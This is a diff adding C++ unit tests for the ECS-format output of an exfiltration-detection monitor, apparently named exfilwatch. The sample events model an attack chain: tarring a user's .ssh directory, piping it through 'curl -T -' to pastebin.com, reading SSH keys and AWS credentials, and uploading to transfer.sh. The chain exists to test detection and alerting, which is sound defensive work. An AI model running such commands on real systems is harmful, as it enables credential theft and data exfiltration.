@@ -1,0 +1,298 @@
+// Tests for output/ecs.cpp: the ECS shape of every record kind, redaction, and sample files for
+// the schema validator (ecs_samples.ndjson must validate, ecs_samples_invalid.ndjson must not).
+#include <doctest/doctest.h>
+
+#include <cstdio>
+#include <cstdlib>
+#include <nlohmann/json.hpp>
+
+#include "ecs_samples.hpp"
+#include "output/ecs.hpp"
+
+using namespace exfilwatch;
+using nlohmann::json;
+
+namespace {
+
+json parse(const std::string& line)
+{
+    REQUIRE(line.find('\n') == std::string::npos);
+    return json::parse(line);  // strict: throws on invalid JSON or UTF-8
+}
+
+std::string sample_path(const char* name)
+{
+    const char* dir = std::getenv("EXFILWATCH_SAMPLES_DIR");
+    return std::string(dir && *dir ? dir : ".") + "/" + name;
+}
+
+void write_file(const std::string& path, const std::vector<std::string>& lines)
+{
+    std::FILE* f = std::fopen(path.c_str(), "w");
+    REQUIRE(f != nullptr);
+    for (const auto& line : lines) {
+        std::fwrite(line.data(), 1, line.size(), f);
+        std::fputc('\n', f);
+    }
+    REQUIRE(std::fclose(f) == 0);
+}
+
+}  // namespace
+
+TEST_CASE("exec record: ECS process fields, placement and extension")
+{
+    auto r = parse(output::to_ndjson_line(Event{samples::events()[0]}));
+    CHECK(r["@timestamp"] == "2026-11-29T02:49:11.123456789Z");
+    CHECK(r["event"]["kind"] == "event");
+    CHECK(r["event"]["action"] == "exec");
+    CHECK(r["event"]["category"] == json::array({"process"}));
+    CHECK(r["event"]["type"] == json::array({"start"}));
+    const auto& p = r["process"];
+    CHECK(p["pid"] == 4242);
+    CHECK(p["entity_id"] == "b1946ac9-4242-1795920500000000000");
+    CHECK(p["executable"] == "/usr/bin/curl");
+    CHECK(p["name"] == "curl");
+    CHECK(p["args"].size() == 6);
+    CHECK(p["args"][5] == "X-Note: caf\xC3\xA9 \"quoted\"\n");
+    CHECK(p["args_count"] == 6);
+    CHECK(p["command_line"] == "curl -T - https://pastebin.com:8443/ -H X-Note: caf\xC3\xA9 \"quoted\"\n");
+    CHECK(p["parent"]["pid"] == 4200);
+    CHECK(p["parent"]["entity_id"] == "b1946ac9-4200-1795920400000000000");
+    CHECK(p["group_leader"]["pid"] == 4242);
+    CHECK(p["session_leader"]["pid"] == 4000);
+    CHECK(p["user"]["id"] == "1000");
+    CHECK(p["start"] == "2026-11-29T02:49:06.123456789Z");
+    CHECK(r["container"]["id"] == samples::process().container_id);
+    CHECK(r["orchestrator"]["resource"]["type"] == "pod");
+    CHECK(r["orchestrator"]["resource"]["id"] == samples::process().pod_uid);
+    CHECK(r["exfilwatch"]["process"]["args_truncated"] == false);
+    CHECK(r["exfilwatch"]["process"]["has_tty"] == true);
+    CHECK(r["exfilwatch"]["process"]["cgroup_id"] == 12345);
+}
+
+TEST_CASE("non-UTF-8 argv is repaired and secrets are redacted")
+{
+    auto line = output::to_ndjson_line(Event{samples::events()[1]});
+    CHECK(line.find("hunter2") == std::string::npos);
+    auto r = parse(line);
+    CHECK(r["process"]["name"] == "t\xEF\xBF\xBDol");
+    CHECK(r["process"]["executable"] == "/tmp/\xEF\xBF\xBD\xEF\xBF\xBD\x01tool");
+    CHECK(r["process"]["args"][4] == std::string("nul\0byte", 8));
+    CHECK(r["process"]["args_count"] == 5);
+    CHECK(r["exfilwatch"]["process"]["args_truncated"] == true);
+    CHECK_FALSE(r.contains("container"));
+    CHECK_FALSE(r.contains("orchestrator"));
+    CHECK_FALSE(r["process"].contains("start"));
+    CHECK_FALSE(r["process"]["parent"].contains("entity_id"));
+}
+
+TEST_CASE("fork and exit records")
+{
+    auto evs = samples::events();
+    auto fork = parse(output::to_ndjson_line(evs[2]));
+    CHECK(fork["event"]["action"] == "fork");
+    CHECK(fork["process"]["pid"] == 4243);
+    auto exit = parse(output::to_ndjson_line(evs[3]));
+    CHECK(exit["event"]["action"] == "exit");
+    CHECK(exit["event"]["type"] == json::array({"end"}));
+    CHECK(exit["process"]["exit_code"] == 130);
+    CHECK(exit["process"]["end"] == "2026-11-29T02:49:11.123456792Z");
+}
+
+TEST_CASE("file-open and file-summary records")
+{
+    auto evs = samples::events();
+    auto ok = parse(output::to_ndjson_line(evs[5]));
+    CHECK(ok["event"]["action"] == "file-open");
+    CHECK(ok["event"]["outcome"] == "success");
+    CHECK(ok["file"]["path"] == "/home/alice/.ssh/id_ed25519");
+    CHECK(ok["file"]["inode"] == "1311");
+    CHECK(ok["file"]["device"] == "2049");
+    CHECK(ok["exfilwatch"]["file"]["requested_path"] == ".ssh/id_ed25519");
+    CHECK(ok["exfilwatch"]["file"]["fd"] == 3);
+    CHECK(ok["exfilwatch"]["file"]["flags"] == 0x80000);
+    CHECK_FALSE(ok["exfilwatch"]["file"].contains("error"));
+
+    auto denied = parse(output::to_ndjson_line(evs[6]));
+    CHECK(denied["event"]["outcome"] == "failure");
+    CHECK(denied["exfilwatch"]["file"]["error"] == "EACCES");
+    CHECK(denied["exfilwatch"]["file"]["errno"] == 13);
+    CHECK(denied["exfilwatch"]["file"]["fd"] == -1);
+
+    auto unknown = parse(output::to_ndjson_line(evs[7]));
+    CHECK_FALSE(unknown["exfilwatch"]["file"].contains("error"));
+    CHECK(unknown["exfilwatch"]["file"]["errno"] == 4000);
+
+    auto sum = parse(output::to_ndjson_line(evs[8]));
+    CHECK(sum["event"]["action"] == "file-summary");
+    CHECK(sum["file"]["path"] == "/home/alice/.aws/credentials");
+    CHECK(sum["exfilwatch"]["file"]["bytes_read"] == 4096);
+    CHECK(sum["exfilwatch"]["file"]["bytes_mapped"] == 8192);
+    CHECK(sum["exfilwatch"]["file"]["opened_for_write"] == true);
+}
+
+TEST_CASE("network records: connect, tls, dns, http, flow")
+{
+    auto evs = samples::events();
+    auto c = parse(output::to_ndjson_line(evs[9]));
+    CHECK(c["event"]["action"] == "connect");
+    CHECK(c["source"]["ip"] == "10.0.0.2");
+    CHECK(c["destination"]["ip"] == "127.0.0.1");
+    CHECK(c["destination"]["port"] == 8443);
+    CHECK(c["destination"]["domain"] == "pastebin.com");
+    CHECK(c["network"]["transport"] == "tcp");
+    CHECK(c["network"]["type"] == "ipv4");
+    CHECK(c["exfilwatch"]["flow"]["cookie"] == 77);
+    auto c6 = parse(output::to_ndjson_line(evs[10]));
+    CHECK(c6["network"]["type"] == "ipv6");
+    CHECK(c6["network"]["transport"] == "udp");
+    CHECK(c6["exfilwatch"]["flow"]["cookie"].get<std::uint64_t>() == 18446744073709551615ULL);
+
+    auto tls = parse(output::to_ndjson_line(evs[11]));
+    CHECK(tls["tls"]["client"]["server_name"] == "pastebin.com");
+    CHECK(tls["tls"]["version"] == "1.3");
+    CHECK(tls["tls"]["version_protocol"] == "tls");
+    CHECK(tls["exfilwatch"]["tls"]["alpn"] == json::array({"h2", "http/1.1"}));
+    CHECK(tls["exfilwatch"]["tls"]["version_code"] == 0x0304);
+    auto tls_odd = parse(output::to_ndjson_line(evs[12]));
+    CHECK_FALSE(tls_odd["tls"].contains("version"));
+
+    auto dns = parse(output::to_ndjson_line(evs[13]));
+    CHECK(dns["dns"]["question"]["name"] == "www.pastebin.com");
+    CHECK(dns["dns"]["resolved_ip"] == json::array({"104.20.1.1", "2606:4700::6812:1"}));
+    const auto& answers = dns["dns"]["answers"];
+    REQUIRE(answers.size() == 4);
+    CHECK(answers[0] == json{{"name", "www.pastebin.com"}, {"type", "CNAME"}, {"data", "pastebin.com"}});
+    CHECK(answers[1] == json{{"name", "pastebin.com"}, {"type", "CNAME"}, {"data", "cdn.example.net"}});
+    CHECK(answers[2] == json{{"name", "cdn.example.net"}, {"type", "A"}, {"data", "104.20.1.1"}});
+    CHECK(answers[3]["type"] == "AAAA");
+
+    auto http = parse(output::to_ndjson_line(evs[15]));
+    CHECK(http["http"]["request"]["method"] == "PUT");
+    CHECK(http["url"]["domain"] == "pastebin.com");
+    CHECK(http["url"]["path"] == "/api/upload");
+    auto connect = parse(output::to_ndjson_line(evs[16]));
+    CHECK(connect["exfilwatch"]["http"]["connect_target"] == "transfer.sh:443");
+
+    auto flow = parse(output::to_ndjson_line(evs[17]));
+    CHECK(flow["event"]["action"] == "flow-summary");
+    CHECK(flow["event"]["type"] == json::array({"connection", "end"}));
+    CHECK(flow["source"]["bytes"] == 1048576);
+    CHECK(flow["destination"]["bytes"] == 512);
+    CHECK(flow["network"]["bytes"] == 1049088);
+    CHECK(flow["exfilwatch"]["flow"]["final"] == true);
+    CHECK(flow["exfilwatch"]["flow"]["domain_source"] == "sni");
+}
+
+TEST_CASE("alert record")
+{
+    auto r = parse(output::to_ndjson_line(samples::alert()));
+    CHECK(r["event"]["kind"] == "alert");
+    CHECK(r["event"]["action"] == "exfiltration-suspected");
+    CHECK(r["event"]["risk_score"] == 87);
+    CHECK(r["rule"]["name"] == "sensitive-file-to-paste-site");
+    CHECK(r["threat"]["framework"] == "MITRE ATT&CK");
+    CHECK(r["threat"]["tactic"]["id"] == "TA0010");
+    CHECK(r["threat"]["tactic"]["name"] == "Exfiltration");
+    CHECK(r["threat"]["technique"]["id"] == "T1567");
+    CHECK(r["threat"]["technique"]["name"] == "Exfiltration Over Web Service");
+    CHECK(r["threat"]["technique"]["subtechnique"]["id"] == "T1567.003");
+    CHECK(r["threat"]["technique"]["subtechnique"]["name"] == "Exfiltration to Text Storage Sites");
+    CHECK(r["source"]["bytes"] == 1048576);
+    CHECK(r["destination"]["bytes"] == 512);
+    CHECK(r["destination"]["domain"] == "pastebin.com");
+    CHECK(r["exfilwatch"]["signals"].size() == 3);
+    CHECK(r["exfilwatch"]["signals"][0]["weight"] == 40);
+    CHECK(r["exfilwatch"]["files"][0]["class"] == "ssh-key");
+    CHECK_FALSE(r["exfilwatch"]["files"][1].contains("class"));
+    REQUIRE(r["exfilwatch"]["chain"].size() == 3);
+    CHECK(r["exfilwatch"]["chain"][1]["command_line"] == "tar czf - /home/alice/.ssh");
+    CHECK(r.dump().find("hunter2") == std::string::npos);
+}
+
+TEST_CASE("state and metric records")
+{
+    auto s = parse(output::to_ndjson_line(samples::started()));
+    CHECK(s["event"]["kind"] == "state");
+    CHECK(s["event"]["action"] == "monitor-started");
+    CHECK(s["exfilwatch"]["hooks"]["attached"] == json::array({"tp_btf/sched_process_exec"}));
+    CHECK(s["exfilwatch"]["hooks"]["degraded"][0]["name"] == "uprobe/libssl.so.3:SSL_write");
+    CHECK(s["exfilwatch"]["hooks"]["degraded"][0]["reason"] == "libssl.so.3 not found");
+    CHECK(s["exfilwatch"]["rules"]["source"] == "built-in");
+    CHECK(s["exfilwatch"]["events"] == "all");
+    CHECK(s["service"]["version"] == "0.1.0");
+    auto stop = parse(output::to_ndjson_line(samples::stopped()));
+    CHECK(stop["event"]["action"] == "monitor-stopped");
+    CHECK(stop["event"]["reason"] == "SIGINT");
+    auto m = parse(output::to_ndjson_line(samples::metrics()));
+    CHECK(m["event"]["kind"] == "metric");
+    CHECK(m["event"]["action"] == "stats");
+    CHECK(m["exfilwatch"]["stats"]["processes.live"] == 310);
+}
+
+TEST_CASE("helpers: errno names, TLS versions, actions")
+{
+    CHECK(output::errno_name(2) == "ENOENT");
+    CHECK(output::errno_name(0).empty());
+    CHECK(output::errno_from_name("EACCES") == 13);
+    CHECK(output::errno_from_name("ENOPE") == 0);
+    CHECK(output::tls_version_text(0x0303) == "1.2");
+    CHECK(output::tls_version_text(0x1234).empty());
+    CHECK(output::event_action(Event{FlowSummaryEvent{}}) == "flow-summary");
+}
+
+// Writes every record kind for tests/tools/validate_ndjson.py, plus records the schemas must
+// reject. Run the validator over both (see the report / Makefile).
+TEST_CASE("sample files for the schema validator")
+{
+    std::vector<std::string> valid;
+    for (const auto& e : samples::events()) valid.push_back(output::to_ndjson_line(e));
+    valid.push_back(output::to_ndjson_line(samples::alert()));
+    Alert bare;  // an alert with nothing optional
+    bare.time = samples::t0;
+    bare.rule_name = "r";
+    bare.reason = "why";
+    valid.push_back(output::to_ndjson_line(bare));
+    valid.push_back(output::to_ndjson_line(samples::started()));
+    valid.push_back(output::to_ndjson_line(samples::stopped()));
+    valid.push_back(output::to_ndjson_line(samples::metrics()));
+    valid.push_back(output::to_ndjson_line(Event{ExecEvent{}}));  // all defaults
+    for (const auto& line : valid) CHECK_NOTHROW(parse(line));
+    write_file(sample_path("ecs_samples.ndjson"), valid);
+
+    // Each must fail validation: a required field missing, a wrong type, an unknown kind...
+    std::vector<std::string> invalid;
+    auto mutate = [&](const std::string& line, auto&& change) {
+        auto r = json::parse(line);
+        change(r);
+        invalid.push_back(r.dump());
+    };
+    const auto exec = valid[0];
+    mutate(exec, [](json& r) { r["process"].erase("pid"); });
+    mutate(exec, [](json& r) { r["process"]["pid"] = "4242"; });
+    mutate(exec, [](json& r) { r.erase("@timestamp"); });
+    mutate(exec, [](json& r) { r["@timestamp"] = "2026-11-29 02:49:11"; });
+    mutate(exec, [](json& r) { r["event"]["kind"] = "telemetry"; });
+    mutate(exec, [](json& r) { r["event"]["action"] = "teleport"; });
+    mutate(exec, [](json& r) { r.erase("process"); });
+    mutate(valid[5], [](json& r) { r.erase("file"); });                       // file-open
+    mutate(valid[8], [](json& r) { r["exfilwatch"]["file"].erase("bytes_read"); });  // file-summary
+    mutate(valid[9], [](json& r) { r["destination"].erase("ip"); });          // connect
+    mutate(valid[9], [](json& r) { r["network"]["transport"] = "sctp"; });
+    mutate(valid[11], [](json& r) { r["exfilwatch"]["flow"].erase("cookie"); });  // tls
+    mutate(valid[13], [](json& r) { r["dns"].erase("question"); });          // dns
+    mutate(valid[15], [](json& r) { r.erase("http"); });                     // http
+    mutate(valid[17], [](json& r) { r["source"].erase("bytes"); });          // flow
+    const auto alert = valid[samples::events().size()];
+    mutate(alert, [](json& r) { r["event"].erase("risk_score"); });
+    mutate(alert, [](json& r) { r["event"]["risk_score"] = 101; });
+    mutate(alert, [](json& r) { r["threat"]["tactic"]["id"] = "TA0001"; });
+    mutate(alert, [](json& r) { r["exfilwatch"]["signals"][0].erase("weight"); });
+    const auto state = valid[valid.size() - 4];
+    mutate(state, [](json& r) { r["exfilwatch"].erase("hooks"); });
+    mutate(state, [](json& r) { r["exfilwatch"]["hooks"]["degraded"][0].erase("reason"); });
+    mutate(valid[valid.size() - 3], [](json& r) { r["event"].erase("reason"); });  // monitor-stopped
+    mutate(valid[valid.size() - 2], [](json& r) { r["exfilwatch"]["stats"]["alerts"] = -1; });
+    mutate(valid[valid.size() - 2], [](json& r) { r["exfilwatch"].erase("stats"); });
+    write_file(sample_path("ecs_samples_invalid.ndjson"), invalid);
+}
